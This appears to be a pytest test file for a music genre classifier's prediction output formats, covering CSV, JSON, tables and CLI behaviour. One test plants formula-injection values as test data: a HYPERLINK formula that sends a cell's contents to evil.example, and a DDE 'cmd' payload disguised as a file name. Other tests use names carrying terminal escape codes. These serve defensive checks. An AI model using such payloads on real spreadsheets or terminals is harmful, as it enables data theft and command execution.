"""One module writes predictions out (genrekit.predict.formats): ``genrekit predict``'s
formats and the service's answer are its functions, so the same song gives the same object."""

import csv
import io
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from genrekit.datasets import load_gtzan
from genrekit.features import FeatureCache, FeatureSpec
from genrekit.models import load, save_model
from genrekit.predict import formats, predict_file
from genrekit.train import train_model

SRC = Path(__file__).resolve().parents[1] / "src" / "genrekit"
GENRES = ("classical", "metal", "reggae")


@pytest.fixture(scope="module")
def model_file(gtzan_mini, feature_cache, tmp_path_factory):
    dataset = load_gtzan(gtzan_mini)
    dataset = dataset.select(t.track_id for t in dataset.tracks if t.label in GENRES and int(t.track_id[-5:]) >= 2)
    result = train_model(dataset, spec=FeatureSpec("fma518", chunk_duration=3.0), model="logreg",
                         cache=FeatureCache(feature_cache), progress=False, cv=False)
    return save_model(result.model, tmp_path_factory.mktemp("model") / "model.genrekit")


def test_the_cli_and_the_service_write_the_same_prediction(model_file, gtzan_mini):
    from fastapi.testclient import TestClient

    from genrekit.cli.main import app
    from genrekit.server.app import create_app

    clip = next((gtzan_mini / "metal").glob("metal.00000.*"))
    expected = formats.prediction_record(predict_file(load(model_file), clip), 3)
    result = CliRunner().invoke(app, ["predict", "--model", str(model_file), str(clip), "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout.splitlines()[0]) == json.loads(json.dumps(expected))
    with TestClient(create_app(model_file), base_url="http://localhost") as client:
        response = client.post("/v1/predict", files={"file": ("song.au", clip.read_bytes(), "audio/basic")})
    assert response.status_code == 200, response.text
    served = response.json()
    # what the service sets after the prediction's own fields: the client's name, the model file's id...
    assert served.pop("size_bytes") == clip.stat().st_size and served.pop("seconds") >= 0
    assert served.pop("model_id").startswith("model.genrekit@") and served.pop("path") == "song.au"
    assert served == {k: v for k, v in json.loads(json.dumps(expected)).items() if k != "path"}  # "model" too

    result = CliRunner().invoke(app, ["predict", "--model", str(model_file), str(clip), str(gtzan_mini / "nope.wav"),
                                      "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["path"] for r in rows] == [str(clip), str(gtzan_mini / "nope.wav")] and rows[1]["error"]
    assert rows[0]["genre"] == expected["genre"] and float(rows[0]["p_metal"]) == pytest.approx(
        expected["probabilities"]["metal"], abs=1e-6)


def test_no_format_code_outside_the_formats_module():
    for path in (SRC / "cli" / "songs.py", SRC / "server" / "app.py"):
        text = path.read_text()
        assert "csv.writer" not in text and "json.dumps" not in text and ".to_dict(" not in text, path


def test_render_gives_every_batch_format_and_refuses_others(model_file, gtzan_mini):
    """The command line's formats come from one function; jsonl streams, so it is not one of them."""
    from genrekit.errors import ParameterError

    model = load(model_file)
    song = gtzan_mini / "metal" / "metal.00001.wav"
    prediction = predict_file(model, song)
    failures = {"gone.wav": "gone.wav: file not found"}
    text = formats.render("json", [prediction], failures, labels=model.labels, model_name=model.name, top=2)
    lines = [json.loads(line) for line in text.splitlines()]
    assert [r["path"] for r in lines] == [str(song), "gone.wav"] and len(lines[0]["top"]) == 2
    rows = list(csv.DictReader(io.StringIO(formats.render("csv", [prediction], failures, labels=model.labels,
                                                           model_name=model.name, top=2))))
    assert [r["path"] for r in rows] == [str(song), "gone.wav"] and rows[1]["error"] == "gone.wav: file not found"
    timeline = formats.render("timeline", [prediction], {}, labels=model.labels, model_name=model.name, top=2)
    assert len(timeline.splitlines()) == 1 + len(prediction.timeline)
    assert formats.render("table", [], failures, labels=model.labels, model_name=model.name, top=2) is None
    assert formats.render("table", [prediction], {}, labels=model.labels, model_name=model.name, top=2) is not None
    with pytest.raises(ParameterError, match="output_format='jsonl': expected one of table, json, csv, timeline"):
        formats.render("jsonl", [prediction], {}, labels=model.labels, model_name=model.name, top=2)


def test_text_from_outside_is_never_a_spreadsheet_formula(tmp_path):
    from genrekit._files import from_spreadsheet_cell, spreadsheet_cell
    from genrekit.predict.disagreements import Disagreement, write_disagreements
    from genrekit.predict.library import write_table
    from genrekit.predict.song import Prediction, Segment

    evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")"
    name = "=cmd|' /C calc'!A0.mp3"
    segment = Segment(start=0.0, end=3.0, genre="=rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1})
    prediction = Prediction(path=name, genre="rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1},
                            n_chunks=1, proportions={"rock": 1.0, "jazz": 0.0}, timeline=[segment],
                            styles={"=cmd": 0.7})  # a model file's style names and its name are anyone's text
    failures = {"+bad.mp3": "+bad.mp3: not audio"}
    for text in (formats.csv_text([prediction], failures, ["jazz", "rock"]),
                 formats.timeline_csv_text([prediction], failures, ["jazz", "rock"])):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert f"'{name}" in cells and "'+bad.mp3" in cells and "'+bad.mp3: not audio" in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    write_disagreements([Disagreement(name, [evil, "Jazz"], "rock", 0.9, 0.05, False)], tmp_path / "d.csv")
    row = next(csv.DictReader(open(tmp_path / "d.csv", newline="")))
    assert row["owner_genres"] == f"'{evil}; Jazz" and row["path"] == f"'{name}"
    table = write_table([{"path": name, "size": 1, "mtime_ns": 1, "key": "k", "error": "-12 dB: " + name,
                          "probabilities": {}, "proportions": {}, "model": "=HYPERLINK(1).onnx@23ff118f22cd",
                          "styles": {"=cmd": 0.7}}], tmp_path / "tags.csv")
    row = next(csv.DictReader(open(table, newline="")))
    assert row["path"] == f"'{name}" and row["error"] == f"'-12 dB: {name}"
    assert row["model"] == "'=HYPERLINK(1).onnx@23ff118f22cd" and row["styles"] == "'=cmd:0.700000"
    assert from_spreadsheet_cell(row["path"]) == name and from_spreadsheet_cell("'plain") == "'plain"
    for text in ("'=x", "''-x", "'", "", "-", "a'=b"):  # text that already starts with quotes comes back as it was
        assert from_spreadsheet_cell(spreadsheet_cell(text)) == text, text
    assert "'=rock" in formats.timeline_csv_text([prediction], {}, ["jazz", "rock"])


def test_the_tables_analysed_span_keeps_a_short_files_tenths():
    """A 3.5 s file is analysed over 0-3.5 s, not "0-4 s"; longer spans stay whole seconds."""
    from rich.console import Console

    from genrekit.predict.song import Prediction, Segment

    def song(path, end):
        return Prediction(path=path, genre="jazz", confidence=0.9, probabilities={"jazz": 0.9, "rock": 0.1},
                          n_chunks=1, proportions={"jazz": 1.0, "rock": 0.0},
                          timeline=[Segment(0.0, end, "jazz", 0.9, {"jazz": 0.9, "rock": 0.1})],
                          duration=end, start=0.0, end=end, model="m")

    console = Console(width=100, record=True)
    console.print(formats.prediction_table([song("short.wav", 3.5), song("long.wav", 170.2)], model_name="m", top=2))
    text = console.export_text()
    assert "0-3.5 s" in text and "0-170 s" in text


def test_the_table_never_rounds_a_genre_it_lists_to_0_or_100_percent():
    """A third genre of probability 0.004 was listed as "blues 0%", and the top one beside it
    as "rock 100%"; they are "<1%" and ">99%". An exact 1 stays 100%."""
    from rich.console import Console

    from genrekit.predict.song import Prediction, Segment

    probabilities = {"rock": 0.9955, "jazz": 0.0041, "blues": 0.0004}
    song = Prediction(path="a.wav", genre="rock", confidence=0.9955, probabilities=probabilities, n_chunks=2,
                      proportions={"rock": 0.996, "jazz": 0.004, "blues": 0.0},
                      timeline=[Segment(0.0, 30.0, "rock", 0.9955, probabilities)], duration=30.0, start=0.0,
                      end=30.0, model="m")
    console = Console(width=100, record=True)
    console.print(formats.prediction_table([song], model_name="m", top=3))
    text = " ".join(console.export_text().replace("│", " ").split())
    assert "rock >99%" in text and "jazz <1%" in text and "blues <1%" in text, text
    assert " 0%" not in text and "100%" not in text, text
    assert [formats._percent(v) for v in (0.0, 0.004, 0.005, 0.0051, 0.5, 0.994, 0.995, 1.0)] == \
        ["0%", "<1%", "<1%", "1%", "50%", "99%", ">99%", "100%"]


def test_json_and_csv_list_the_files_in_the_order_given_failures_included():
    """json and csv listed failed files after every prediction, so a script pairing the rows
    with its own list of files paired them wrongly."""
    from genrekit.predict import formats

    first, last = _prediction("a.wav"), _prediction("c.wav")
    failures = {"b.wav": "b.wav: not audio"}
    order = ["a.wav", "b.wav", "c.wav"]
    lines = formats.render("json", [first, last], failures, labels=["jazz", "rock"], model_name="m", top=2,
                           order=order).splitlines()
    assert [json.loads(line)["path"] for line in lines] == order
    for kind in ("csv", "timeline"):
        rows = list(csv.DictReader(io.StringIO(formats.render(kind, [first, last], failures, labels=["jazz", "rock"],
                                                              model_name="m", top=2, order=order))))
        assert list(dict.fromkeys(row["path"] for row in rows)) == order, kind
        assert [row["error"] != "" for row in rows if row["path"] == "b.wav"] == [True], kind
    # a file the order names otherwise (a library caller's Path, another spelling) comes last, not lost
    lines = formats.render("json", [first, last], failures, labels=["jazz", "rock"], model_name="m", top=2,
                           order=["c.wav"]).splitlines()
    assert [json.loads(line)["path"] for line in lines] == ["c.wav", "a.wav", "b.wav"]


def test_the_table_shows_the_threshold_a_genre_fell_below_as_it_was_given():
    """With --min-confidence 0.80774409 a song of confidence 0.80774409... was "unknown (<
    0.807744)": :g rounded the threshold below the confidence it was compared with."""
    from rich.console import Console

    threshold = 0.80774409
    below = _prediction("a.wav").with_min_confidence(0.9)
    below = below.__class__(**{**below.__dict__, "confidence": threshold - 1e-9,
                               "probabilities": {"rock": threshold - 1e-9, "jazz": 1 - threshold + 1e-9}})
    console = Console(width=100, record=True)
    console.print(formats.prediction_table([below.with_min_confidence(threshold)], model_name="m", top=2))
    assert f"unknown (< {threshold!r})" in console.export_text()


def _prediction(path: str):
    from genrekit.predict.song import Prediction, Segment

    segment = Segment(start=0.0, end=3.0, genre="rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1})
    return Prediction(path=path, genre="rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1},
                      n_chunks=1, proportions={"rock": 1.0, "jazz": 0.0}, timeline=[segment])


def test_a_file_name_that_is_not_utf8_or_holds_a_newline_stays_readable_text(capsys):
    """A name's bytes that are not UTF-8 went raw into the CSV (pandas refused it); a newline in
    a name forged a line of the failure list. JSON keeps the name exact (Python reads it back)."""
    import pandas as pd
    from rich.console import Console

    from genrekit.cli.common import _report_failures

    odd, broken = "caf\udce9.wav", "new\nline\x1b[2J.wav"
    failures = {broken: f"{broken}: not audio"}
    text = formats.render("csv", [_prediction(odd)], failures, labels=["jazz", "rock"], model_name="m", top=2,
                          order=[odd, broken])
    text.encode("utf-8")  # no surrogate left to write
    frame = pd.read_csv(io.StringIO(text))
    assert list(frame["path"]) == ["caf\\xe9.wav", broken]
    text = formats.render("json", [_prediction(odd), _prediction("日本 é.mp3")], failures, labels=["jazz", "rock"],
                          model_name="m", top=2, order=[odd, "日本 é.mp3", broken])
    text.encode("utf-8")  # the odd byte as its escape, which UTF-8 can write
    lines = text.splitlines()
    assert [json.loads(line)["path"] for line in lines] == [odd, "日本 é.mp3", broken]
    assert '"path": "日本 é.mp3"' in lines[1] and '"path": "caf\\udce9.wav"' in lines[0]  # as the service writes text
    # a C1 control a terminal may obey, and a separator str.splitlines() cuts at, stay escapes
    line = formats.failure_line("a\x9b2J\u2028b.wav", "not audio")
    assert "\\u009b" in line and "\\u2028" in line and len(line.splitlines()) == 1
    assert json.loads(line)["path"] == "a\x9b2J\u2028b.wav"
    _report_failures(failures)
    shown = capsys.readouterr().err
    assert "new\\nline\\x1b[2J.wav: not audio" in shown and "\x1b[2J" not in shown
    console = Console(width=100, record=True)
    console.print(formats.prediction_table([_prediction(broken)], model_name="m", top=2))
    assert "new\\nline\\x1b[2J.wav" in console.export_text()
    from genrekit._files import line_shown

    assert line_shown("evil\u202egnp.mp3") == "evil\\u202egnp.mp3"  # a right-to-left override shown, not obeyed
    assert line_shown("ro\u200bck\ufeff") == "ro\\u200bck\\ufeff"  # a zero-width lookalike shown


def test_a_plot_of_a_name_the_font_lacks_glyphs_for_is_saved_without_warnings(tmp_path):
    """`predict "日本.ogg" --plot` printed matplotlib's "Glyph 26085 missing from font(s)" twice,
    with a source line of genrekit's (a new user's review, 2026-12)."""
    import warnings

    from matplotlib.figure import Figure

    from genrekit._files import save_figure, written_by_genrekit

    figure = Figure()
    figure.add_subplot().set_title("métal ünïcode 日本.ogg")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        save_figure(figure, tmp_path / "plot.png")
    assert written_by_genrekit(tmp_path / "plot.png")


def test_json_output_stays_json_on_a_terminal_whose_encoding_lacks_a_character(tmp_path, clip):
    """`predict --format json` writes UTF-8 text now; in a Latin-1 locale a name such as 日本.wav
    (or an emoji) is written as JSON's own escapes, read back the same, and CSV's as backslash
    escapes, instead of a UnicodeEncodeError after the work is done."""
    import shutil
    import subprocess
    import sys

    song = tmp_path / "日本 🎵.wav"
    shutil.copy(clip, song)
    env = {**os.environ, "PYTHONIOENCODING": "latin-1"}
    for output_format in ("json", "jsonl"):
        done = subprocess.run([sys.executable, "-m", "genrekit", "predict", str(song), "--format", output_format,
                               "--model", "default"], capture_output=True, env=env, check=True)
        assert json.loads(done.stdout.decode("latin-1"))["path"] == str(song)
    done = subprocess.run([sys.executable, "-m", "genrekit", "predict", str(song), "--format", "csv", "--model",
                           "default"], capture_output=True, env=env, check=True)
    assert "\\u65e5\\u672c \\U0001f3b5.wav" in done.stdout.decode("latin-1")


def test_jsonl_lines_go_to_stdout_while_the_progress_bar_is_on_a_terminal(clip, tmp_path):
    """With stderr on a terminal, rich's progress bar sent the jsonl lines through its console to
    stderr: `predict ... --format jsonl > out.jsonl` left the file empty (a review, 2026-12)."""
    import pty
    import shutil
    import subprocess
    import sys
    import threading

    songs = [tmp_path / f"song{i}.wav" for i in range(2)]
    for song in songs:
        shutil.copy(clip, song)
    master, slave = pty.openpty()
    shown = []
    reader = threading.Thread(target=lambda: shown.append(_drain(master)), daemon=True)
    reader.start()
    try:
        done = subprocess.run([sys.executable, "-m", "genrekit", "predict", *map(str, songs), "--format", "jsonl",
                               "--jobs", "1", "--model", "default"], stdout=subprocess.PIPE, stderr=slave,
                              timeout=300, env={**os.environ, "COLUMNS": "100"})
    finally:
        os.close(slave)
    reader.join(10)
    os.close(master)
    assert done.returncode == 0
    assert [json.loads(line)["path"] for line in done.stdout.decode().splitlines()] == list(map(str, songs))


def _drain(fd: int) -> bytes:
    chunks = []
    while True:
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the terminal's other side closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    return b"".join(chunks)


def test_a_reader_that_leaves_ends_the_command_without_a_traceback(clip):
    """`genrekit predict ... --format jsonl | head -1`: a write that meets a closed pipe ends the
    command quietly, with 141 as a shell reports cat's (click's own handling exited 1, which
    says an error)."""
    import subprocess
    import sys

    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first line
    try:
        done = subprocess.run([sys.executable, "-m", "genrekit", "predict", str(clip), "--format", "jsonl",
                               "--model", "default"], stdout=write, stderr=subprocess.PIPE, timeout=300)
    finally:
        os.close(write)
    assert done.returncode == 141 and b"Traceback" not in done.stderr and b"BrokenPipe" not in done.stderr, done.stderr
